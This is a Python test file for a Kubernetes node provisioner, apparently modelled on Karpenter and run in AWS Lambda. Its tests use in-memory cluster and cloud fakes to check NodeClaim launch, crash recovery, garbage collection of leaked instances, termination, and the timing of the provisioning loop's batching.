"""The provisioning pass and lifecycle against in-memory doubles of the cluster and the cloud.

The doubles implement only what ``nodewright.cluster.Cluster`` and the cloud provider expose
and keep the API server's rules that matter here (finalizers hold a deleted object, names are
unique); the sandbox end-to-end tests run the same flow against the real clients.
"""

from __future__ import annotations

import copy
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest
from fakes import (
    T0,
    FakeClock,
    FakeCloudProvider,
    FakeCluster,
    RecordingLogger,
    RecordingMetrics,
    instance,
)
from nodewright.api import labels
from nodewright.cloud.provider import LaunchResult
from nodewright.cluster.objects import format_time
from nodewright.context import Context
from nodewright.provisioning import flow, garbage, lifecycle, nodeclaims, planning
from nodewright.ratelimit import TokenBucket
from nodewright.settings import Settings
from nodewright.state import nodepools
from nodewright.state.guard import WriteGuard
from nodewright.state.world import observe
from test_scheduling_support import catalog


def pending_pod(name: str) -> dict[str, Any]:
    return {
        "metadata": {"name": name, "namespace": "default", "uid": f"pod-{name}"},
        "spec": {"containers": [{"name": "c", "resources": {"requests": {"cpu": "1", "memory": "1Gi"}}}]},
        "status": {
            "phase": "Pending",
            "conditions": [{"type": "PodScheduled", "status": "False", "reason": "Unschedulable"}],
        },
    }


NODEPOOL = {
    "apiVersion": "karpenter.sh/v1",
    "metadata": {"name": "default"},
    "spec": {
        "template": {
            "metadata": {"labels": {"team": "a"}},
            "spec": {
                "nodeClassRef": {"group": "karpenter.k8s.aws", "kind": "EC2NodeClass", "name": "default"},
                "requirements": [],
                "startupTaints": [{"key": "startup", "effect": "NoSchedule"}],
            },
        }
    },
}
NODECLASS = {"apiVersion": "karpenter.k8s.aws/v1", "metadata": {"name": "default"}, "spec": {"role": "r"}}
SCHEDULING_CORE_PLAN = planning.plan  # the real one, for the tests that need it past the stand-in


@pytest.fixture
def world(monkeypatch: pytest.MonkeyPatch) -> tuple[Context, FakeCluster, FakeCloudProvider]:
    clock = FakeClock()
    cluster, cloud = FakeCluster(clock), FakeCloudProvider(clock)
    cluster.add("NodePool", NODEPOOL)
    cluster.add("EC2NodeClass", NODECLASS)
    settings = Settings(cluster_name="test", region="us-west-2")
    ctx = Context(settings, cluster, cloud, None, RecordingLogger(), RecordingMetrics(), clock=clock)
    monkeypatch.setattr(nodepools, "validation_errors", lambda doc: list(doc.get("errors", [])))
    monkeypatch.setattr(planning, "plan", StandInPlanner())
    garbage.reset_gc_clock(templates=True)
    monkeypatch.setattr(flow, "_recent_events", {})
    monkeypatch.setattr(
        flow,
        "_nominated_events",
        TokenBucket(flow.NOMINATED_EVENTS_PER_SECOND, flow.NOMINATED_EVENTS_BURST, clock=clock),
    )
    return ctx, cluster, cloud


class StandInPlanner:
    """Stands in for the scheduling core: pods given a NodeClaim once stay covered by it (in flight)."""

    def __init__(self) -> None:
        self.covered: set[str] = set()

    def __call__(self, world: Any, pending: list[dict[str, Any]], pools: list[Any]) -> Any:
        fresh = [p for p in pending if p["metadata"]["name"] not in self.covered]
        view = planning.PlanView()
        if fresh and pools:
            requirements = [
                {"key": labels.INSTANCE_TYPE, "operator": "In", "values": ["m5.large", "m5.xlarge"]}
            ]
            view.new_claims.append(
                planning.ClaimPlan(pools[0]["metadata"]["name"], requirements, {"cpu": "1"}, fresh)
            )
            self.covered.update(p["metadata"]["name"] for p in fresh)
        elif fresh:
            view.unschedulable = {f"default/{p['metadata']['name']}": "no NodePool is usable" for p in fresh}
        return view


def test_a_pass_creates_the_nodeclaim_before_it_launches_and_records_the_instance(world: Any) -> None:
    ctx, cluster, cloud = world
    cluster.add("Pod", pending_pod("inflate-1"))

    report = flow.provision(ctx)

    assert len(report.created) == 1
    assert len(report.launched) == 1
    name = report.created[0]
    assert cluster.calls.index(f"create {name}") < cluster.calls.index(f"status {name}")
    claim = cluster.objects["NodeClaim"][name]
    instance = next(iter(cloud.instances.values()))
    assert claim["status"]["providerID"] == f"aws:///us-west-2a/{instance.id}"
    assert claim["status"]["instanceID"] == instance.id
    assert nodeclaims.is_true(claim, "Launched")
    assert claim["metadata"]["labels"][labels.INSTANCE_TYPE] == "m5.large"
    assert claim["metadata"]["labels"][labels.NODEPOOL] == "default"
    assert claim["metadata"]["labels"]["team"] == "a"
    assert claim["metadata"]["finalizers"] == [labels.TERMINATION_FINALIZER]
    assert claim["status"]["capacity"] == {"cpu": "4", "memory": "16Gi", "pods": "58"}
    assert claim["status"]["allocatable"] == {"cpu": "3920m", "memory": "14Gi", "pods": "58"}
    assert claim["spec"]["startupTaints"] == [{"key": "startup", "effect": "NoSchedule"}]
    assert ("Pod", "inflate-1", "Nominated", f"Pod should schedule on: nodeclaim/{name}") in cluster.events
    assert ("ClusterCostPerHour", pytest.approx(0.096)) in ctx.metrics.values


def test_the_cluster_cost_counts_every_launched_nodeclaim_from_the_price_table(world: Any) -> None:
    ctx, cluster, _cloud = world
    cluster.add("Pod", pending_pod("inflate-1"))
    flow.provision(ctx)
    ctx.metrics.values.clear()

    flow.provision(ctx)  # nothing new: the cost is the launched NodeClaim's, priced from the table

    assert ("ClusterCostPerHour", pytest.approx(0.096)) in ctx.metrics.values


class FunctionDied(BaseException):
    """The Lambda function stops (timeout, out of memory, kill): no ``except Exception`` sees it."""


def crash_around_create(cloud: FakeCloudProvider, *, before: bool) -> None:
    """The function dies once, just before CreateFleet or just after it returned (before the status write)."""
    real = cloud.create

    def dying(request: Any) -> LaunchResult:
        cloud.create = real  # type: ignore[method-assign]
        if not before:
            real(request)
        raise FunctionDied("injected crash")

    cloud.create = dying  # type: ignore[method-assign]


def test_crash_between_create_and_launch_is_finished_by_the_next_pass_with_one_instance(world: Any) -> None:
    ctx, cluster, cloud = world
    cluster.add("Pod", pending_pod("inflate-1"))

    crash_around_create(cloud, before=True)

    with pytest.raises(FunctionDied, match="injected crash"):
        flow.provision(ctx)
    assert len(cluster.objects["NodeClaim"]) == 1
    assert not cloud.instances

    report = flow.provision(ctx)

    assert report.created == []
    assert len(report.launched) == 1
    assert len(cloud.instances) == 1
    assert cloud.creates == 1
    assert nodeclaims.is_true(next(iter(cluster.objects["NodeClaim"].values())), "Launched")


def test_crash_between_launch_and_status_write_adopts_the_instance_instead_of_launching_again(
    world: Any,
) -> None:
    ctx, cluster, cloud = world
    cluster.add("Pod", pending_pod("inflate-1"))

    crash_around_create(cloud, before=False)

    with pytest.raises(FunctionDied, match="injected crash"):
        flow.provision(ctx)
    assert len(cloud.instances) == 1

    report = flow.provision(ctx)

    assert [x.adopted for x in report.launched] == [True]
    assert cloud.creates == 1
    assert len(cloud.instances) == 1
    claim = next(iter(cluster.objects["NodeClaim"].values()))
    assert claim["status"]["instanceID"] == next(iter(cloud.instances))


def test_a_launch_that_fails_deletes_the_nodeclaim_with_an_event_and_counts_the_error(world: Any) -> None:
    from nodewright.cloud import errors as cloud_errors

    ctx, cluster, cloud = world
    cluster.add("Pod", pending_pod("inflate-1"))
    cloud.fail_with = cloud_errors.InsufficientCapacityError(
        "x", [cloud_errors.FleetError("InsufficientInstanceCapacity", "m5.large", "us-west-2a", "on-demand")]
    )

    report = flow.provision(ctx)

    assert [f.code for f in report.failures] == ["InsufficientInstanceCapacity"]
    assert cluster.objects["NodeClaim"] == {}
    assert any(reason == "LaunchFailed" for _k, _n, reason, _m in cluster.events)


def test_registration_syncs_labels_taints_and_finalizer_then_initialization_follows_readiness(
    world: Any,
) -> None:
    ctx, cluster, _cloud = world
    cluster.add("Pod", pending_pod("inflate-1"))
    name = flow.provision(ctx).created[0]
    claim = cluster.objects["NodeClaim"][name]
    node = cluster.add(
        "Node",
        {
            "metadata": {"name": "ip-10-0-0-1", "labels": {}},
            "spec": {
                "providerID": claim["status"]["providerID"],
                "taints": [
                    {"key": labels.UNREGISTERED_TAINT_KEY, "effect": "NoExecute"},
                    {"key": "startup", "effect": "NoSchedule"},
                ],
            },
            "status": {"conditions": [{"type": "Ready", "status": "True"}], "allocatable": {"cpu": "3920m"}},
        },
    )

    report = flow.provision(ctx)

    assert report.lifecycle.registered == [name]
    assert report.lifecycle.initialized == []
    node = cluster.objects["Node"]["ip-10-0-0-1"]
    assert node["metadata"]["labels"][labels.NODE_REGISTERED] == "true"
    assert node["metadata"]["labels"]["team"] == "a"
    assert labels.TERMINATION_FINALIZER in node["metadata"]["finalizers"]
    assert all(t["key"] != labels.UNREGISTERED_TAINT_KEY for t in node["spec"]["taints"])
    assert cluster.objects["NodeClaim"][name]["status"]["nodeName"] == "ip-10-0-0-1"

    node["spec"]["taints"] = []  # the startup taint is lifted by the node's own agent
    report = flow.provision(ctx)

    assert report.lifecycle.initialized == [name]
    assert nodeclaims.is_true(cluster.objects["NodeClaim"][name], "Initialized")
    assert node["metadata"]["labels"][labels.NODE_INITIALIZED] == "true"


def _registered_node(ctx: Any, cluster: FakeCluster) -> tuple[str, dict[str, Any]]:
    cluster.add("Pod", pending_pod("inflate-1"))
    name = flow.provision(ctx).created[0]
    claim = cluster.objects["NodeClaim"][name]
    cluster.add(
        "Node",
        {
            "metadata": {"name": "ip-10-0-0-1", "labels": {}},
            "spec": {"providerID": claim["status"]["providerID"]},
            "status": {"conditions": [{"type": "Ready", "status": "True"}]},
        },
    )
    flow.provision(ctx)  # registered: the Node gets the termination finalizer
    return name, claim


def test_issue16_defect4_kubectl_delete_node_is_followed_by_the_provisioner_too(world: Any) -> None:
    ctx, cluster, cloud = world
    name, claim = _registered_node(ctx, cluster)
    cluster.delete_node("ip-10-0-0-1")  # held by the finalizer

    report = flow.provision(ctx)  # the NodeClaim follows; nothing to drain, so it is finished at once
    assert report.termination.node_deletions == (name,)
    assert [(t.nodeclaim, t.reason, t.done) for t in report.termination.terminations] == [
        (name, "Node ip-10-0-0-1 deleted", True)
    ]
    assert cluster.objects["Node"] == {}
    assert name not in cluster.objects["NodeClaim"]
    assert claim["status"]["instanceID"] in cloud.terminated


def test_the_invocation_reports_the_terminations_its_passes_drove(world: Any) -> None:
    from nodewright.provisioning import loop

    ctx, cluster, _cloud = world
    name, _claim = _registered_node(ctx, cluster)
    cluster.delete_node("ip-10-0-0-1")

    summary = loop.run(ctx, remaining_seconds=20).summary()

    [driven] = summary["terminations"]  # as the disruption function reports its own
    assert driven["nodeclaim"] == name
    assert driven["steps"], driven


def test_issue16_defect3_a_vanished_instance_releases_its_node_and_nodeclaim_in_one_provisioner_pass(
    world: Any,
) -> None:
    ctx, cluster, cloud = world
    name, claim = _registered_node(ctx, cluster)
    cluster.add("Pod", {**pending_pod("stuck"), "spec": {"nodeName": "ip-10-0-0-1"}})
    instance_id = claim["status"]["instanceID"]
    del cloud.instances[instance_id]
    cloud.gone.add(instance_id)
    ctx.clock.advance(garbage.LEAK_GRACE.total_seconds() + 1)
    garbage.reset_gc_clock()

    report = flow.provision(ctx)  # GC: the instance is gone → the NodeClaim is deleted
    assert report.garbage.vanished == [name]
    flow.provision(ctx)  # finalized at once: no drain waits on a dead kubelet

    assert cluster.objects["Node"] == {}
    assert name not in cluster.objects["NodeClaim"]
    assert "stuck" not in cluster.objects["Pod"]


def test_an_instance_that_never_registers_is_terminated_after_fifteen_minutes(world: Any) -> None:
    ctx, cluster, cloud = world
    cluster.add("Pod", pending_pod("inflate-1"))
    name = flow.provision(ctx).created[0]
    ctx.clock.advance(14 * 60)
    assert flow.provision(ctx).lifecycle.timed_out == []

    ctx.clock.advance(2 * 60)
    report = flow.provision(ctx)
    assert report.lifecycle.timed_out == [name]
    flow.provision(ctx)  # its termination: terminate, then drop the finalizer

    assert cloud.instances == {}
    assert len(cloud.terminated) == 1
    assert name not in cluster.objects["NodeClaim"]
    assert any(reason == "RegistrationTimeout" for _k, _n, reason, _m in cluster.events)


def test_leaked_instances_are_terminated_after_the_grace_period_only(world: Any) -> None:
    ctx, _cluster, cloud = world
    young = instance("i-young", "m5.large", "us-west-2a", "on-demand", "gone-1", launch_time=T0)
    ten_minutes_ago = T0 - timedelta(minutes=10)
    old = instance("i-old", "m5.large", "us-west-2a", "on-demand", "gone-2", launch_time=ten_minutes_ago)
    cloud.instances = {"i-young": young, "i-old": old}

    report = flow.provision(ctx)

    assert report.garbage.leaked_terminated == ["i-old"]
    assert set(cloud.instances) == {"i-young"}


def test_pending_pods_are_launched_for_before_garbage_collection_lists_the_instances(
    world: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    ctx, cluster, cloud = world
    cluster.add("Pod", pending_pod("inflate-1"))
    old = instance(
        "i-old", "m5.large", "us-west-2a", "on-demand", "gone", launch_time=T0 - timedelta(minutes=10)
    )
    cloud.instances = {"i-old": old}
    order: list[str] = []
    create, listing = cloud.create, cloud.list
    monkeypatch.setattr(cloud, "create", lambda request: order.append("CreateFleet") or create(request))
    monkeypatch.setattr(cloud, "list", lambda: order.append("DescribeInstances") or listing())

    report = flow.provision(ctx)

    assert order == ["CreateFleet", "DescribeInstances"]
    assert report.garbage.leaked_terminated == ["i-old"]
    (launched,) = report.launched
    assert launched.instance_id in cloud.instances, "the pass's own launch, listed after it, is no leak"


def test_a_pass_whose_time_is_up_leaves_garbage_collection_to_the_next(world: Any) -> None:
    ctx, _cluster, cloud = world
    old = instance(
        "i-old", "m5.large", "us-west-2a", "on-demand", "gone", launch_time=T0 - timedelta(minutes=10)
    )
    cloud.instances = {"i-old": old}
    out_of_time = WriteGuard(
        None, deadline=ctx.clock.monotonic(), lease_seconds=30, monotonic=ctx.clock.monotonic
    )

    assert flow.provision(ctx, out_of_time).garbage.leaked_terminated == []
    assert set(cloud.instances) == {"i-old"}
    assert flow.provision(ctx).garbage.leaked_terminated == ["i-old"]


def test_a_second_instance_tagged_with_a_live_nodeclaim_is_a_leak_once_registration_would_have_failed(
    world: Any,
) -> None:
    ctx, cluster, cloud = world
    cluster.add("Pod", pending_pod("inflate-1"))
    name = flow.provision(ctx).created[0]
    claim = cluster.objects["NodeClaim"][name]
    recorded = claim["status"]["instanceID"]
    cluster.add(
        "Node",
        {
            "metadata": {"name": "ip-10-0-0-1", "labels": {}},
            "spec": {"providerID": claim["status"]["providerID"]},
            "status": {"conditions": [{"type": "Ready", "status": "True"}]},
        },
    )
    twin = instance("i-twin", "m5.large", "us-west-2a", "on-demand", name, launch_time=ctx.clock.now())
    cloud.instances["i-twin"] = twin

    garbage.reset_gc_clock()
    assert flow.provision(ctx).garbage.leaked_terminated == []  # young: it might still be adopted

    ctx.clock.advance(lifecycle.REGISTRATION_TTL.total_seconds() + 60)
    garbage.reset_gc_clock()
    report = flow.provision(ctx)

    assert report.garbage.leaked_terminated == ["i-twin"]
    assert name in cluster.objects["NodeClaim"]
    assert recorded in cloud.instances


def test_deleting_a_nodepool_deletes_its_nodeclaims_which_terminate_their_instances(world: Any) -> None:
    ctx, cluster, cloud = world
    cluster.add("Pod", pending_pod("inflate-1"))
    name = flow.provision(ctx).created[0]
    cluster.objects["Pod"].clear()
    del cluster.objects["NodePool"]["default"]

    assert flow.provision(ctx).garbage.orphans_deleted == [name]
    assert [t.nodeclaim for t in flow.provision(ctx).termination.finished] == [name]
    assert cluster.objects["NodeClaim"] == {}
    assert cloud.instances == {}


def test_an_invalid_nodepool_is_skipped_with_a_condition_and_one_event_while_others_work(world: Any) -> None:
    ctx, cluster, _cloud = world
    broken = copy.deepcopy(NODEPOOL)
    broken["metadata"]["name"] = "broken"
    broken["spec"]["weight"] = 100  # tried first, if it were usable
    broken["errors"] = ["spec.template.spec.requirements[0].weight: unknown field"]
    cluster.add("NodePool", broken)
    cluster.add("Pod", pending_pod("inflate-1"))

    report = flow.provision(ctx)
    flow.provision(ctx)

    assert "broken" in report.skipped_nodepools
    assert [c["metadata"]["labels"][labels.NODEPOOL] for c in cluster.objects["NodeClaim"].values()] == [
        "default"
    ]
    conditions = {c["type"]: c for c in cluster.objects["NodePool"]["broken"]["status"]["conditions"]}
    assert conditions["ValidationSucceeded"]["status"] == "False"
    assert "weight: unknown field" in conditions["ValidationSucceeded"]["message"]
    assert conditions["Ready"]["status"] == "False"
    invalid_events = [e for e in cluster.events if e[2] == "InvalidNodePool"]
    assert len(invalid_events) == 1
    assert invalid_events[0][1] == "broken"
    good = {c["type"]: c["status"] for c in cluster.objects["NodePool"]["default"]["status"]["conditions"]}
    assert good == {
        "ValidationSucceeded": "True",
        "NodeClassReady": "True",
        "FieldsNotActedOn": "False",
        "Ready": "True",
    }


def test_a_nodepool_whose_nodeclass_is_missing_says_so(world: Any) -> None:
    ctx, cluster, _cloud = world
    cluster.objects["EC2NodeClass"].clear()

    report = flow.provision(ctx)

    assert "EC2NodeClass 'default' not found" in report.skipped_nodepools["default"]


# --- the invocation loop: adaptive idle mode and batching -------------------------------------


class ScriptedClock(FakeClock):
    """A fake clock that runs scripted cluster changes when time passes them (pods arriving)."""

    def __init__(self) -> None:
        super().__init__()
        self.script: list[tuple[float, Any]] = []

    def advance(self, seconds: float) -> None:
        target = self.mono + seconds
        while self.script and self.script[0][0] <= target:
            at, action = self.script.pop(0)
            super().advance(max(0.0, at - self.mono))
            action()
        super().advance(target - self.mono)


@pytest.fixture
def looping(
    world: Any, monkeypatch: pytest.MonkeyPatch
) -> tuple[Context, FakeCluster, ScriptedClock, list[float]]:
    ctx, cluster, _cloud = world
    clock = ScriptedClock()
    cluster.clock = clock
    ctx.clock = clock
    ctx.cloud.clock = clock
    pass_times: list[float] = []
    real_provision = flow.provision

    def timed(c: Context, guard: Any = None) -> Any:
        pass_times.append(clock.mono - 1000.0)
        return real_provision(c, guard)

    from nodewright.provisioning import loop

    monkeypatch.setattr(loop, "provision", timed)
    monkeypatch.setattr(loop, "_memory", {})
    monkeypatch.setattr(loop, "_observed", {})
    return ctx, cluster, clock, pass_times


def add_settled_claim(cluster: FakeCluster) -> None:
    """A NodeClaim created just now and already registered: recent activity, nothing to launch."""
    cluster.add("NodeClaim", {"metadata": {"name": "default-old", "labels": {labels.NODEPOOL: "default"}}})
    cluster.objects["NodeClaim"]["default-old"]["status"] = {
        "conditions": [{"type": "Launched", "status": "True"}, {"type": "Registered", "status": "True"}]
    }


def test_an_idle_cluster_gets_one_pass_and_the_invocation_returns_at_once(looping: Any) -> None:
    from nodewright.provisioning import loop

    ctx, _cluster, clock, pass_times = looping

    report = loop.run(ctx, remaining_seconds=90)

    assert report.idle
    assert pass_times == [0.0]
    assert clock.mono - 1000.0 < 1.0


def test_recent_activity_keeps_the_loop_polling_until_the_budget_ends(looping: Any) -> None:
    from nodewright.provisioning import loop

    ctx, cluster, clock, pass_times = looping
    add_settled_claim(cluster)

    report = loop.run(ctx, remaining_seconds=90)

    assert not report.idle
    assert pass_times[:3] == [0.0, 5.0, 10.0]
    assert 54.0 <= clock.mono - 1000.0 <= loop.LOOP_BUDGET_SECONDS + 1


def test_a_pod_no_nodepool_can_place_does_not_keep_the_loop_awake_forever(looping: Any) -> None:
    from nodewright.provisioning import loop

    ctx, cluster, _clock, pass_times = looping
    cluster.objects["NodePool"].clear()
    stuck = pending_pod("stuck")
    stuck["status"]["conditions"][0]["lastTransitionTime"] = format_time(T0 - timedelta(minutes=20))
    cluster.add("Pod", stuck)

    report = loop.run(ctx, remaining_seconds=90)

    assert report.idle
    assert pass_times == [0.0]
    assert report.passes[0].unschedulable == {"default/stuck": "no NodePool is usable"}


def test_a_drain_a_pdb_blocks_does_not_keep_the_loop_awake_but_is_stepped_again_next_pass(
    looping: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A NodeClaim being deleted whose last pod a PodDisruptionBudget will not let go (for days, as
    operators see with maxUnavailable 0): each pass tries the eviction and waits. That counted as
    activity, and the provisioner looped, billed, as long as the PDB held; waiting is not work."""
    from nodewright.cluster.client import EvictionOutcome, EvictionResult
    from nodewright.provisioning import loop

    ctx, cluster, _clock, pass_times = looping
    cluster.objects["NodePool"].clear()  # its pod's replacement capacity: long since launched or refused
    _running_on(cluster, "guarded", "draining", deleting="claim")
    claim = cluster.objects["NodeClaim"]["claim-draining"]
    claim["metadata"]["finalizers"] = [labels.TERMINATION_FINALIZER]
    claim["metadata"]["creationTimestamp"] = format_time(T0 - timedelta(hours=3))
    tries: list[str] = []

    def blocked(pod: dict[str, Any]) -> EvictionResult:
        tries.append(pod["metadata"]["name"])
        return EvictionResult(EvictionOutcome.BLOCKED, 429, "would violate the PodDisruptionBudget", 5.0)

    monkeypatch.setattr(cluster, "evict", blocked)

    first = loop.run(ctx, remaining_seconds=90)
    second = loop.run(ctx, remaining_seconds=90)  # the next scheduled invocation

    assert first.idle
    assert second.idle
    assert [len(first.passes), len(second.passes)] == [1, 1], "one pass per invocation"
    assert len(pass_times) == 2
    assert tries == ["guarded", "guarded"], "the eviction asked again on each pass"
    assert "claim-draining" in cluster.objects["NodeClaim"], "still held, as the PDB asks"
    (term,) = first.passes[0].termination.terminations
    assert term.last_pass is not None
    assert term.last_pass.blocked == ["default/guarded"]
    assert first.passes[0].termination.progressed == []


def test_a_pod_that_just_became_pending_keeps_the_loop_awake(looping: Any) -> None:
    from nodewright.provisioning import loop

    ctx, cluster, _clock, pass_times = looping
    cluster.objects["NodePool"].clear()
    cluster.add("Pod", pending_pod("new"))

    report = loop.run(ctx, remaining_seconds=30)

    assert not report.idle
    assert len(pass_times) > 1


def test_no_pass_runs_while_another_writer_holds_the_lease(looping: Any) -> None:
    from nodewright.provisioning import loop

    ctx, cluster, _clock, pass_times = looping
    cluster.add("Pod", pending_pod("p"))
    cluster.lease.held_elsewhere = True

    report = loop.run(ctx, remaining_seconds=20)

    assert pass_times == []
    assert report.lease_held is False
    assert cluster.objects["NodeClaim"] == {}
    assert cluster.lease_identities[0].startswith("provisioner/")


def test_the_loop_stops_early_when_the_lambda_has_little_time_left(looping: Any) -> None:
    from nodewright.provisioning import loop

    ctx, cluster, clock, _pass_times = looping
    cluster.add("Pod", pending_pod("p"))

    loop.run(ctx, remaining_seconds=20)

    assert clock.mono - 1000.0 <= 20 - loop.SAFETY_MARGIN_SECONDS + 0.5


def test_a_burst_between_passes_is_seen_as_it_arrives_and_planned_together(looping: Any) -> None:
    from nodewright.provisioning import loop

    ctx, cluster, clock, pass_times = looping
    add_settled_claim(cluster)
    for i, at in enumerate((1002.0, 1002.5, 1003.0)):
        clock.script.append((at, lambda i=i: cluster.add("Pod", pending_pod(f"burst-{i}"))))

    loop.run(ctx, remaining_seconds=30)

    fresh_claims = [c for n, c in cluster.objects["NodeClaim"].items() if n != "default-old"]
    assert len(fresh_claims) == 1
    # Seen by the watch, not at the 5 s pass; planned 1 s after the last pod.
    assert pass_times[1] == 4.0


def test_a_pod_between_passes_opens_the_batch_when_the_watch_sees_it_not_at_a_later_look(
    looping: Any,
) -> None:
    from fakes import WATCH_STEP_SECONDS
    from nodewright.provisioning import loop

    ctx, cluster, clock, pass_times = looping
    add_settled_claim(cluster)
    clock.script.append((1001.3, lambda: cluster.add("Pod", pending_pod("between"))))

    loop.run(ctx, remaining_seconds=30)

    # Seen within one step of the fake watch, planned Karpenter's 1 s later (a 1 s poll: 3.0 s).
    assert 2.3 <= pass_times[1] <= 2.3 + WATCH_STEP_SECONDS + 1e-9


def test_a_steady_stream_of_pods_is_batched_for_at_most_ten_seconds(looping: Any) -> None:
    from nodewright.provisioning import loop

    ctx, cluster, clock, pass_times = looping
    add_settled_claim(cluster)
    for i in range(60):  # one new pod every 0.5 s from t=4.5 s on: never 1 s of quiet
        clock.script.append((1004.5 + i * 0.5, lambda i=i: cluster.add("Pod", pending_pod(f"stream-{i}"))))

    loop.run(ctx, remaining_seconds=40)

    assert pass_times[1] == pytest.approx(14.5, abs=0.3)  # opened as the first arrived, closed 10 s later


def test_a_wakeup_on_an_idle_cluster_plans_the_pod_that_woke_it_without_waiting_for_a_tick(
    looping: Any,
) -> None:
    from nodewright.provisioning import loop

    ctx, cluster, clock, pass_times = looping
    cluster.add("Pod", pending_pod("woke-us"))

    report = loop.run(ctx, remaining_seconds=55, woken_at=clock.now())

    assert report.woken
    assert not report.stale_wakeup
    assert pass_times[0] == 1.0  # Karpenter's 1 s batching window, counted from the wake-up
    assert len(cluster.objects["NodeClaim"]) == 1


def test_a_wakeup_batches_the_pods_that_arrive_just_after_it_into_one_pass(looping: Any) -> None:
    from nodewright.provisioning import loop

    ctx, cluster, clock, pass_times = looping
    sent = clock.now()
    for i, at in enumerate((1000.3, 1000.6, 1000.9)):
        clock.script.append((at, lambda i=i: cluster.add("Pod", pending_pod(f"burst-{i}"))))

    loop.run(ctx, remaining_seconds=20, woken_at=sent)

    assert len(cluster.objects["NodeClaim"]) == 1
    assert pass_times[0] == pytest.approx(2.0, abs=0.3)  # 1 s after the last pod of the burst


def test_a_wakeup_delivered_after_this_container_already_looked_is_dropped_without_a_call(
    looping: Any,
) -> None:
    from nodewright.provisioning import loop

    ctx, cluster, clock, pass_times = looping
    sent = clock.now()
    clock.advance(30)  # throttled behind a loop that listed the pods meanwhile
    loop.run(ctx, remaining_seconds=55)
    passes_before, leases_before = len(pass_times), len(cluster.lease_identities)

    report = loop.run(ctx, remaining_seconds=55, woken_at=sent)

    assert report.stale_wakeup
    assert len(pass_times) == passes_before
    assert len(cluster.lease_identities) == leases_before  # not even the lease was asked for


def test_a_wakeup_sent_after_the_last_look_is_not_stale(looping: Any) -> None:
    from nodewright.provisioning import loop

    ctx, _cluster, clock, _pass_times = looping
    loop.run(ctx, remaining_seconds=55)

    assert not loop.is_stale_wakeup(ctx, clock.now())
    assert not loop.is_stale_wakeup(ctx, clock.now() - timedelta(seconds=loop.WAKEUP_MARGIN_SECONDS))


# --- replacement capacity for displaced nodes (the interruption flow's call) ---------------------


def test_replacement_capacity_is_launched_for_the_reschedulable_pods_of_a_node_about_to_go(
    world: Any,
) -> None:
    from nodewright.provisioning import replace_for_displaced

    ctx, cluster, cloud = world
    seen: list[Any] = []
    planner = planning.plan

    def recording(w: Any, pending: list[dict[str, Any]], pools: list[Any]) -> Any:
        seen.append((w, pending))
        return planner(w, pending, pools)

    planning.plan = recording  # the fixture's monkeypatch restores the original
    node = cluster.add(
        "Node",
        {"metadata": {"name": "doomed", "labels": {labels.NODEPOOL: "default"}}, "spec": {"providerID": "p"}},
    )
    app = pending_pod("app-1")
    app["spec"]["nodeName"] = "doomed"
    app["status"] = {"phase": "Running"}
    daemon = pending_pod("agent-1")
    daemon["spec"]["nodeName"] = "doomed"
    daemon["status"] = {"phase": "Running"}
    daemon["metadata"]["ownerReferences"] = [{"kind": "DaemonSet", "name": "agent"}]
    cluster.add("Pod", app)
    cluster.add("Pod", daemon)

    report = replace_for_displaced(ctx, [node["metadata"]["name"]], guard=None)

    assert len(report.created) == 1
    assert len(report.launched) == 1
    (planned_world, pending) = seen[0]
    assert [p["metadata"]["name"] for p in pending] == ["app-1"]
    assert "nodeName" not in pending[0]["spec"]
    assert all(n["metadata"]["name"] != "doomed" for n in planned_world.nodes)
    assert len(cloud.instances) == 1


def _running_on(cluster: Any, pod_name: str, node: str, *, deleting: str | None = None) -> None:
    """A node (its NodeClaim being deleted when ``deleting`` says so: "claim" or "node") running one pod."""
    provider = f"aws:///us-west-2a/i-{sum(map(ord, node)):017x}"
    meta: dict[str, Any] = {"name": node, "labels": {labels.NODEPOOL: "default"}}
    if deleting == "node":
        meta["deletionTimestamp"] = "2026-01-01T00:00:00Z"
    cluster.add("Node", {"metadata": meta, "spec": {"providerID": provider}})
    claim_meta: dict[str, Any] = {"name": f"claim-{node}", "labels": {labels.NODEPOOL: "default"}}
    if deleting == "claim":
        claim_meta["deletionTimestamp"] = "2026-01-01T00:00:00Z"
    cluster.add("NodeClaim", {"metadata": claim_meta, "status": {"providerID": provider, "nodeName": node}})
    pod = pending_pod(pod_name)
    pod["spec"]["nodeName"] = node
    pod["status"] = {"phase": "Running"}
    cluster.add("Pod", pod)


def _recording_planner() -> list[tuple[Any, list[dict[str, Any]]]]:
    seen: list[tuple[Any, list[dict[str, Any]]]] = []
    planner = planning.plan

    def recording(w: Any, pending: list[dict[str, Any]], pools: list[Any]) -> Any:
        seen.append((w, pending))
        return planner(w, pending, pools)

    planning.plan = recording  # the fixture's monkeypatch restores the original
    return seen


def test_a_second_interruption_plans_the_pods_of_the_node_already_going_with_its_own(world: Any) -> None:
    """The capacity launched for the first node's pods must not look free to the second's."""
    from nodewright.provisioning import replace_for_displaced

    ctx, cluster, _cloud = world
    _running_on(cluster, "first-app", "interrupted", deleting="claim")
    _running_on(cluster, "second-app", "rebalanced")
    cluster.add("Pod", pending_pod("evicted-app"))  # the first node's pod, evicted already
    seen = _recording_planner()

    replace_for_displaced(ctx, ["rebalanced"], guard=None)

    planned_world, pending = seen[0]
    assert sorted(p["metadata"]["name"] for p in pending) == ["evicted-app", "first-app", "second-app"]
    assert {n["metadata"]["name"] for n in planned_world.nodes}.isdisjoint({"interrupted", "rebalanced"})


def test_a_replacement_pass_after_its_nodes_drained_plans_the_pods_pending_since(world: Any) -> None:
    """A replacement holder's follow-up pass, once the interrupted node's pods are all evicted: their
    successors, pending now, are what it plans (it returned without planning when no pod was left
    on the nodes)."""
    from nodewright.provisioning import replace_for_displaced

    ctx, cluster, _cloud = world
    cluster.add("Node", {"metadata": {"name": "drained"}, "spec": {"providerID": "p"}})
    cluster.add("Pod", pending_pod("successor"))

    report = replace_for_displaced(ctx, ["drained"], guard=None)

    assert len(report.created) == 1
    assert report.pending_keys == {"default/successor"}


@pytest.mark.parametrize("deleting", ["claim", "node"])
def test_a_pass_plans_the_pods_of_a_node_being_deleted_as_pending(world: Any, deleting: str) -> None:
    ctx, cluster, _cloud = world
    _running_on(cluster, "leaving-app", "leaving", deleting=deleting)
    _running_on(cluster, "staying-app", "staying")
    seen = _recording_planner()

    flow.provision(ctx)

    planned_world, pending = seen[0]
    assert [p["metadata"]["name"] for p in pending] == ["leaving-app"]
    assert "nodeName" not in pending[0]["spec"]
